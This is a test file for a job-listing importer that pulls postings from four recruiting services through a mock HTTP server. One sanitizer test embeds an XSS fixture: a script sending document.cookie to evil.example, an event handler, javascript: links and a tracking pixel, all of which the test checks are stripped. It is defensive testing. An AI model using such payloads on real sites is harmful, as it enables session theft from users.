/**
 * The real importer (runImport, and `npm run import` itself) against a local
 * HTTP server that answers in each service's shape: the mapping per service,
 * hostile descriptions, drafts, a second run that changes nothing, closing,
 * hand edits, duplicates, and every fault a board can throw at it.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawn } from 'node:child_process';
import { runImport, type ImportReport } from '../../src/import/run.ts';
import type { FetchLimits } from '../../src/import/fetch.ts';
import { readSourceFile } from '../../src/listing-files/source-file.ts';
import { jobSchema, type JobData } from '../../src/schema/job.ts';
import { startAtsServer, type AtsServer } from '../support/ats-server.ts';
import { ashbyJob, greenhouseBoard, greenhouseJob, leverPosting, recruiteeOffer } from '../support/ats-payloads.ts';
import { ROOT } from '../support/fixture.ts';

const TODAY = '2026-11-25';
const fast: FetchLimits = { timeoutMs: 2_000, retries: 2, retryDelayMs: 5, maxRetryDelayMs: 20, maxBytes: 2 * 1024 * 1024 };
const companies = [
  { id: 'oakhollow', from: 'greenhouse', path: '/v1/boards/oakhollow/jobs', category: 'engineering' },
  { id: 'saltmarsh', from: 'lever', path: '/v0/postings/saltmarsh', category: 'product-design' },
  { id: 'fernlight', from: 'ashby', path: '/posting-api/job-board/fernlight', category: 'data-ml' },
  { id: 'brookvane', from: 'recruitee', path: '/api/offers/', category: 'operations' },
] as const;

let server: AtsServer;
let dir: string;
const env = () => Object.fromEntries(['GREENHOUSE', 'LEVER', 'ASHBY', 'RECRUITEE'].map((name) => [`IMPORT_${name}_URL`, server.url]));
const run = (only: string[] = [], limits: FetchLimits = fast, today = TODAY): Promise<ImportReport> =>
  runImport({ contentDir: dir, today, only, env: env(), limits });

/** Every file in content/, by name, with its bytes as text. */
function snapshot(): Record<string, string> {
  const files: Record<string, string> = {};
  for (const folder of ['jobs', 'companies']) {
    for (const name of existsSync(join(dir, folder)) ? readdirSync(join(dir, folder)) : []) {
      files[`${folder}/${name}`] = readFileSync(join(dir, folder, name), 'utf8');
    }
  }
  return files;
}

const jobText = (slug: string) => readFileSync(join(dir, 'jobs', `${slug}.md`), 'utf8');
function job(slug: string): JobData {
  const read = readSourceFile(`${slug}.md`, new TextEncoder().encode(jobText(slug)));
  if (!read.ok) throw new Error(read.problems[0]!.message);
  return jobSchema.parse(read.source.data);
}
/** `npm run import` (or another script) as a person runs it; asynchronous, so this process's test server keeps answering. */
function npm(
  script: string,
  args: string[],
  extraEnv: Record<string, string>,
): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn('npm', ['run', '--silent', script, '--', ...args], {
      cwd: ROOT,
      env: { ...process.env, CONTENT_DIR: dir, BUILD_DATE: TODAY, ...extraEnv },
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

const entries = (report: ImportReport, company: string) => report.companies.find((c) => c.company === company)!.entries;
const actions = (report: ImportReport, company: string) =>
  entries(report, company).map((e) => `${e.action} ${e.file?.split('/').pop() ?? e.posting?.id}`);

function serveDefaults(): void {
  server.reply('/v1/boards/oakhollow/jobs', {
    json: greenhouseBoard([
      greenhouseJob(401),
      greenhouseJob(402, { title: 'Support Lead', location: { name: 'Remote' }, pay_input_ranges: [] }),
    ]),
  });
  server.reply('/v0/postings/saltmarsh', { json: [leverPosting('a1b2c3')] });
  server.reply('/posting-api/job-board/fernlight', {
    json: { apiVersion: '1', jobs: [ashbyJob('f-1'), ashbyJob('f-2', { isListed: false })] },
  });
  server.reply('/api/offers/', { json: { offers: [recruiteeOffer(77)] } });
}

beforeAll(async () => {
  server = await startAtsServer();
});
afterAll(async () => {
  await server.close();
});

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'openings-import-'));
  mkdirSync(join(dir, 'companies'));
  mkdirSync(join(dir, 'jobs'));
  for (const company of companies) {
    writeFileSync(
      join(dir, 'companies', `${company.id}.md`),
      `---\nname: ${company.id}\nwebsite: https://${company.id}.example\nlogo: ./${company.id}.svg\nimport:\n  from: ${company.from}\n  board: ${company.id}\n  category: ${company.category}\n---\nA fictional company for the importer's tests.\n`,
    );
    copyFileSync(join(ROOT, 'test/fixtures/board/companies/alder-works.svg'), join(dir, 'companies', `${company.id}.svg`));
  }
  serveDefaults();
  server.requests.length = 0;
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

describe('npm run import against the four services', () => {
  it('maps a posting of each service to a listing', async () => {
    const report = await run();
    expect(report.companies.map((c) => c.error)).toEqual([undefined, undefined, undefined, undefined]);

    expect(job('senior-backend-engineer-go-oakhollow')).toMatchObject({
      title: 'Senior Backend Engineer (Go)',
      company: 'oakhollow',
      category: 'engineering',
      workplace: 'remote',
      region: ['DE'],
      employment: 'full-time',
      experience: 'mid-senior',
      salary: { min: 80000, max: 95000, currency: 'EUR', period: 'year', estimated: false },
      skills: ['Go', 'Engineering'],
      posted: '2026-11-10',
      expires: '2026-12-10',
      apply: 'https://boards.greenhouse.io/oakhollow/jobs/401',
      source: { name: 'Greenhouse', url: 'https://boards.greenhouse.io/oakhollow/jobs/401' },
      imported: { from: 'greenhouse', id: '401' },
      draft: false,
    });
    // Greenhouse's escaped HTML was decoded once, then converted: headings start at ##.
    expect(jobText('senior-backend-engineer-go-oakhollow')).toContain('---\n## About the role\n\nYou will look after');

    expect(job('product-designer-mobile-saltmarsh')).toMatchObject({
      workplace: 'hybrid',
      region: ['PT'],
      location: 'Porto, Portugal',
      salary: { min: 52000, max: 64000, currency: 'EUR', period: 'year' },
      apply: 'https://jobs.lever.co/saltmarsh/a1b2c3/apply',
      source: { name: 'Lever', url: 'https://jobs.lever.co/saltmarsh/a1b2c3' },
      posted: '2026-11-12',
      skills: ['Mobile', 'Design'],
    });
    expect(jobText('product-designer-mobile-saltmarsh')).toContain(
      '## What you bring\n\n- Three years of designing for phones\n- Figma, and prototypes people can hold',
    );

    expect(job('staff-data-engineer-fernlight')).toMatchObject({
      workplace: 'remote',
      region: ['eu'],
      salary: { min: 70000, max: 85000, currency: 'EUR', period: 'year' },
      apply: 'https://jobs.ashbyhq.com/fernlight/f-1/application',
      source: { name: 'Ashby', url: 'https://jobs.ashbyhq.com/fernlight/f-1' },
      posted: '2026-11-14',
      skills: ['Data', 'Platform'],
    });

    expect(job('heat-pump-installer-brookvane')).toMatchObject({
      workplace: 'onsite',
      location: 'Utrecht, Netherlands',
      employment: 'full-time',
      salary: { min: 3400, max: 4100, currency: 'EUR', period: 'month' },
      skills: ['Heat pumps', 'Electrical installation', 'Dutch'],
      posted: '2026-11-05',
      // Recruitee's own closing date.
      expires: '2027-01-31',
      apply: 'https://brookvane.recruitee.com/o/installer-77/c/new',
    });
    expect(jobText('heat-pump-installer-brookvane')).toContain('## Requirements\n\n- A vocational certificate');

    expect(actions(report, 'fernlight')).toEqual(['added staff-data-engineer-fernlight.md', 'skipped f-2']);
    expect(entries(report, 'fernlight')[1]!.reason).toBe('is unlisted on Ashby');
    expect(server.requests).toEqual(
      expect.arrayContaining([
        '/v1/boards/oakhollow/jobs?content=true&pay_transparency=true',
        '/v0/postings/saltmarsh?mode=json',
        '/posting-api/job-board/fernlight?includeCompensation=true',
        '/api/offers/',
      ]),
    );
  });

  it('writes files that pass npm run validate, and prints the summary; a second run changes no byte', async () => {
    const cli = (args: string[] = []) => npm('import', args, env());
    const first = await cli();
    expect(first.status, first.stderr).toBe(0);
    expect(first.stdout).toContain('5 added, 0 updated, 0 closed, 0 unchanged, 1 skipped from 4 boards.');
    expect(first.stdout).toMatch(
      /- Added `.*support-lead-oakhollow\.md`, as a \*\*draft\*\*: the location "Remote" says no country or region/,
    );

    const validate = await npm('validate', [], {});
    expect(validate.status, validate.stdout).toBe(0);
    expect(validate.stdout).toMatch(/✓|0 errors/);

    const before = snapshot();
    const second = await cli(['--json']);
    expect(second.status, second.stderr).toBe(0);
    const json = JSON.parse(second.stdout) as { totals: Record<string, number>; failed: number };
    expect(json.totals).toEqual({ added: 0, updated: 0, closed: 0, unchanged: 5, skipped: 1 });
    expect(json.failed).toBe(0);
    expect(snapshot()).toEqual(before);
  });

  it('imports only the companies named, and refuses a name without a profile or an import block', async () => {
    const report = await run(['saltmarsh']);
    expect(report.companies.map((c) => c.company)).toEqual(['saltmarsh']);
    expect(Object.keys(snapshot()).filter((f) => f.startsWith('jobs/'))).toEqual(['jobs/product-designer-mobile-saltmarsh.md']);
    await expect(run(['nobody'])).rejects.toThrow(/no company profile content\/companies\/nobody\.md/);
    writeFileSync(
      join(dir, 'companies', 'plain.md'),
      '---\nname: Plain\nwebsite: https://plain.example\nlogo: ./plain.svg\n---\nNo import.\n',
    );
    await expect(run(['plain'])).rejects.toThrow(/plain\.md has no import: block/);
  });
});

describe('hostile descriptions and the draft rule', () => {
  it('strips scripts, handlers, javascript: links and images, and keeps the text', async () => {
    const hostile =
      '<p onmouseover="steal()">We mean well.<script>fetch("https://evil.example/?c="+document.cookie)</script></p>' +
      '<p><a href="javascript:alert(document.domain)">Apply here</a> or <a href=" JAVASCRIPT:alert(1)">there</a>.</p>' +
      '<img src="https://evil.example/pixel.gif"><iframe src="https://evil.example"></iframe>' +
      `<p>${'Our crews fit heat pumps in old houses, carefully and quickly. '.repeat(6)}</p>`;
    server.reply('/api/offers/', { json: { offers: [recruiteeOffer(78, { description: hostile, requirements: '' })] } });
    await run(['brookvane']);
    const text = jobText('heat-pump-installer-brookvane');
    const body = text.slice(text.indexOf('\n---\n') + 5);
    expect(body).toContain('We mean well.');
    expect(body).toContain('Apply here or there.');
    for (const bad of ['<script', 'javascript:', 'JAVASCRIPT', 'onmouseover', '<img', 'pixel.gif', 'iframe', '<p'])
      expect(body, bad).not.toContain(bad);
  });

  it('skips a posting whose description the validator would refuse, and reports why', async () => {
    const huge = `<p>${'Long text about the job. '.repeat(45_000)}</p>`;
    const oneWord = `<p>${'x'.repeat(5_000)}</p>`;
    server.reply('/api/offers/', {
      json: { offers: [recruiteeOffer(80, { description: huge }), recruiteeOffer(81, { description: oneWord }), recruiteeOffer(82)] },
    });
    const report = await run(['brookvane']);
    const skipped = entries(report, 'brookvane').filter((e) => e.action === 'skipped');
    expect(skipped.map((e) => e.posting?.id)).toEqual(['80', '81']);
    expect(skipped[0]!.reason).toMatch(/would not pass the validator \(file: is \d+ KB; listings must be under 100 KB/);
    expect(skipped[1]!.reason).toMatch(/would not pass the validator \(description: has a word of 5,000 characters/);
    expect(actions(report, 'brookvane')).toContain('added heat-pump-installer-brookvane.md');
  });

  it('writes a posting it cannot place, or whose pay it cannot read, as a draft with the reason', async () => {
    server.reply('/v0/postings/saltmarsh', {
      json: [
        leverPosting('p-1', {
          text: 'Harbour App Designer',
          workplaceType: 'unspecified',
          country: null,
          categories: { location: 'Somewhere sunny' },
        }),
        leverPosting('p-2', {
          text: 'Berth Planner',
          salaryRange: { currency: 'DOUBLOONS', interval: 'per-year-salary', min: 10, max: 20 },
        }),
        leverPosting('p-3', { text: 'Quay Researcher', salaryRange: { currency: 'EUR', interval: 'one-time', min: 5000, max: 6000 } }),
      ],
    });
    const report = await run(['saltmarsh']);
    expect(entries(report, 'saltmarsh').map((e) => [e.action, e.draft])).toEqual([
      ['added', 'the location "Somewhere sunny" names no country'],
      ['added', 'the pay is in "DOUBLOONS", which is not an ISO 4217 currency; the salary is left out'],
      ['added', 'the pay period "one-time" is not one the board shows (year, month, week, day, hour); the salary is left out'],
    ]);
    expect(job('harbour-app-designer-saltmarsh')).toMatchObject({ draft: true, workplace: 'onsite', location: 'Location unknown' });
    expect(job('berth-planner-saltmarsh')).toMatchObject({ draft: true });
    expect(job('berth-planner-saltmarsh').salary).toBeUndefined();
    expect(jobText('berth-planner-saltmarsh')).toMatch(/# Draft: the pay is in "DOUBLOONS".*\n# Check the fields.*\ndraft: true\n/);
  });
});

describe('later runs', () => {
  it('updates a listing in place when its posting changes, keeping the file name', async () => {
    await run(['oakhollow']);
    server.reply('/v1/boards/oakhollow/jobs', {
      json: greenhouseBoard([greenhouseJob(401, { title: 'Principal Backend Engineer (Go)' })]),
    });
    const report = await run(['oakhollow']);
    expect(actions(report, 'oakhollow')).toEqual(['updated senior-backend-engineer-go-oakhollow.md', 'closed support-lead-oakhollow.md']);
    expect(job('senior-backend-engineer-go-oakhollow').title).toBe('Principal Backend Engineer (Go)');
  });

  it('moves expiry only in steps, not every day', async () => {
    await run(['oakhollow']);
    const before = snapshot();
    expect((await run(['oakhollow'], fast, '2026-11-26')).companies[0]!.entries.every((e) => e.action === 'unchanged')).toBe(true);
    expect(snapshot()).toEqual(before);
    const later = await run(['oakhollow'], fast, '2026-12-04');
    expect(actions(later, 'oakhollow')).toEqual(['updated senior-backend-engineer-go-oakhollow.md', 'updated support-lead-oakhollow.md']);
    expect(job('senior-backend-engineer-go-oakhollow').expires).toBe('2027-01-09');
  });

  it('closes the listing of a posting that disappeared, and never deletes it', async () => {
    await run(['oakhollow']);
    server.reply('/v1/boards/oakhollow/jobs', {
      json: greenhouseBoard([greenhouseJob(402, { title: 'Support Lead', location: { name: 'Remote' }, pay_input_ranges: [] })]),
    });
    const before = jobText('senior-backend-engineer-go-oakhollow');
    const report = await run(['oakhollow']);
    expect(actions(report, 'oakhollow')).toEqual(['closed senior-backend-engineer-go-oakhollow.md', 'unchanged support-lead-oakhollow.md']);
    const after = jobText('senior-backend-engineer-go-oakhollow');
    expect(job('senior-backend-engineer-go-oakhollow').expires).toBe(TODAY);
    // Only expires and the digest changed.
    expect(
      after
        .split('\n')
        .filter((line, i) => line !== before.split('\n')[i])
        .map((line) => line.split(':')[0]!.trim()),
    ).toEqual(['expires', 'digest']);
    // Closed stays closed: the next run leaves it alone.
    const again = snapshot();
    await run(['oakhollow'], fast, '2026-11-26');
    expect(snapshot()['jobs/senior-backend-engineer-go-oakhollow.md']).toBe(again['jobs/senior-backend-engineer-go-oakhollow.md']);
  });

  it('never overwrites a hand-edited listing: it reports it, and only closes it', async () => {
    await run(['oakhollow']);
    const file = join(dir, 'jobs', 'senior-backend-engineer-go-oakhollow.md');
    const edited = readFileSync(file, 'utf8').replace('You will look after the tools', 'You will look after, with care, the tools');
    writeFileSync(file, edited);
    server.reply('/v1/boards/oakhollow/jobs', { json: greenhouseBoard([greenhouseJob(401, { title: 'Renamed Upstream' })]) });
    const report = await run(['oakhollow']);
    expect(entries(report, 'oakhollow').find((e) => e.file?.endsWith('senior-backend-engineer-go-oakhollow.md'))).toMatchObject({
      action: 'skipped',
      reason: 'was edited by hand, so the importer leaves it as it is; compare it with the posting on Greenhouse',
    });
    expect(readFileSync(file, 'utf8')).toBe(edited);

    server.reply('/v1/boards/oakhollow/jobs', { json: greenhouseBoard([]) });
    const closing = await run(['oakhollow']);
    expect(entries(closing, 'oakhollow').find((e) => e.file?.endsWith('senior-backend-engineer-go-oakhollow.md'))).toMatchObject({
      action: 'closed',
      reason: 'is no longer on Greenhouse; it was edited by hand, so only its expires date was set',
    });
    expect(readFileSync(file, 'utf8')).toBe(edited.replace('expires: 2026-12-10', `expires: ${TODAY}`));
  });

  it('never touches listings it did not write, and does not write a posting twice', async () => {
    const handWritten = readFileSync(join(ROOT, 'test/fixtures/board/jobs/draft-job-alder.md'), 'utf8')
      .replace(/^company: .*$/m, 'company: saltmarsh')
      .replace(/^apply: .*$/m, 'apply: https://jobs.lever.co/saltmarsh/a1b2c3/apply');
    writeFileSync(join(dir, 'jobs', 'designer-by-hand-saltmarsh.md'), handWritten);
    server.reply('/v0/postings/saltmarsh', {
      json: [
        leverPosting('a1b2c3'),
        leverPosting('d4e5f6', { text: 'Field Designer' }),
        // The same apply link as d4e5f6: one listing, not two.
        leverPosting('g7h8i9', { text: 'Field Designer (again)', applyUrl: 'https://jobs.lever.co/saltmarsh/d4e5f6/apply' }),
      ],
    });
    const report = await run(['saltmarsh']);
    expect(entries(report, 'saltmarsh').map((e) => [e.action, e.posting?.id, e.reason])).toEqual([
      ['added', 'd4e5f6', undefined],
      ['skipped', 'a1b2c3', expect.stringMatching(/is already listed in .*designer-by-hand-saltmarsh\.md \(the same apply link\)$/)],
      ['skipped', 'g7h8i9', expect.stringMatching(/is already listed in .*field-designer-saltmarsh\.md \(the same apply link\)/)],
    ]);
    expect(readFileSync(join(dir, 'jobs', 'designer-by-hand-saltmarsh.md'), 'utf8')).toBe(handWritten);
    // The posting disappearing closes nothing it did not write.
    server.reply('/v0/postings/saltmarsh', { json: [] });
    await run(['saltmarsh']);
    expect(readFileSync(join(dir, 'jobs', 'designer-by-hand-saltmarsh.md'), 'utf8')).toBe(handWritten);
  });
});

describe('faults', () => {
  async function failure(
    reply: Parameters<AtsServer['reply']>[1],
    limits: FetchLimits = fast,
  ): Promise<{ error: string; report: ImportReport }> {
    await run();
    const before = snapshot();
    server.reply('/v1/boards/oakhollow/jobs', reply);
    server.requests.length = 0;
    const report = await run([], limits);
    const oak = report.companies.find((c) => c.company === 'oakhollow')!;
    // The failing board changes nothing (its listings are not closed), and the others are still imported.
    expect(snapshot()).toEqual(before);
    expect(report.companies.filter((c) => c.error).map((c) => c.company)).toEqual(['oakhollow']);
    return { error: oak.error!, report };
  }

  it('names the profile when the board does not exist (404)', async () => {
    expect((await failure({ status: 404 })).error).toMatch(
      /^Greenhouse has no board "oakhollow" \(HTTP 404\); check import\.board in .*companies\/oakhollow\.md$/,
    );
  });

  it('retries a 429 or 5xx briefly, and gives up after a bounded number of tries', async () => {
    await run();
    server.reply('/v1/boards/oakhollow/jobs', {
      sequence: [{ status: 503 }, { status: 429 }, { json: greenhouseBoard([greenhouseJob(401)]) }],
    });
    server.requests.length = 0;
    const recovered = await run(['oakhollow']);
    expect(recovered.companies[0]!.error).toBeUndefined();
    expect(server.requests.filter((r) => r.startsWith('/v1/boards/oakhollow'))).toHaveLength(3);

    expect((await failure({ status: 500 })).error).toBe(
      'Greenhouse board "oakhollow" answered HTTP 500 Internal Server Error (after 3 tries)',
    );
    expect(server.requests.filter((r) => r.startsWith('/v1/boards/oakhollow'))).toHaveLength(3);
  });

  it('gives up on a board that does not answer in time', async () => {
    expect((await failure({ hang: true }, { ...fast, timeoutMs: 300 })).error).toBe(
      'Greenhouse board "oakhollow" did not answer within 0.3 s',
    );
  });

  it('reports malformed JSON and an unexpected shape', async () => {
    expect((await failure({ body: '{"jobs": [' })).error).toMatch(/^Greenhouse board "oakhollow" answered with malformed JSON \(/);
    expect((await failure({ json: [{ id: 1 }] })).error).toBe(
      'Greenhouse board "oakhollow" answered in an unexpected shape: expected an object with a "jobs" list',
    );
  });

  it('stops reading an answer larger than the cap', async () => {
    const big = JSON.stringify(greenhouseBoard(Array.from({ length: 400 }, (_, i) => greenhouseJob(1000 + i))));
    expect(big.length).toBeGreaterThan(256 * 1024);
    expect((await failure({ body: big }, { ...fast, maxBytes: 256 * 1024 })).error).toMatch(
      /^Greenhouse board "oakhollow" sent (more than )?[\d.]+ MB; the importer reads at most 0\.3 MB from one board$/,
    );
  });

  it('skips one broken posting and imports the rest', async () => {
    server.reply('/v1/boards/oakhollow/jobs', { json: { jobs: [{ id: 9, title: 42 }, 'nonsense', greenhouseJob(401)] } });
    const report = await run(['oakhollow']);
    expect(entries(report, 'oakhollow').map((e) => [e.action, e.posting?.id])).toEqual([
      ['added', '401'],
      ['skipped', '9'],
      ['skipped', '?'],
    ]);
  });

  it('exits 1 after writing what the other boards produced, and 2 on a bad override', async () => {
    server.reply('/posting-api/job-board/fernlight', { status: 404 });
    const cli = (extra: Record<string, string> = {}) => npm('import', [], { ...env(), ...extra });
    const result = await cli();
    expect(result.status).toBe(1);
    expect(result.stdout).toContain('**Failed:** Ashby has no board "fernlight" (HTTP 404)');
    expect(Object.keys(snapshot()).filter((f) => f.startsWith('jobs/'))).toHaveLength(4);

    const bad = await cli({ IMPORT_LEVER_URL: 'http://127.0.0.1:1/some/path' });
    expect(bad.status).toBe(2);
    expect(bad.stderr).toContain('IMPORT_LEVER_URL may only give a scheme, host and port');
  });

  it('reports a profile whose import block is wrong, and imports the others', async () => {
    writeFileSync(
      join(dir, 'companies', 'saltmarsh.md'),
      readFileSync(join(dir, 'companies', 'saltmarsh.md'), 'utf8').replace('from: lever', 'from: leverr'),
    );
    const report = await run();
    expect(report.companies.find((c) => c.company === 'saltmarsh')!.error).toMatch(
      /saltmarsh\.md:6 import\.from "leverr" is not a supported service; did you mean "lever"\?/,
    );
    expect(report.companies.filter((c) => !c.error)).toHaveLength(3);
  });
});
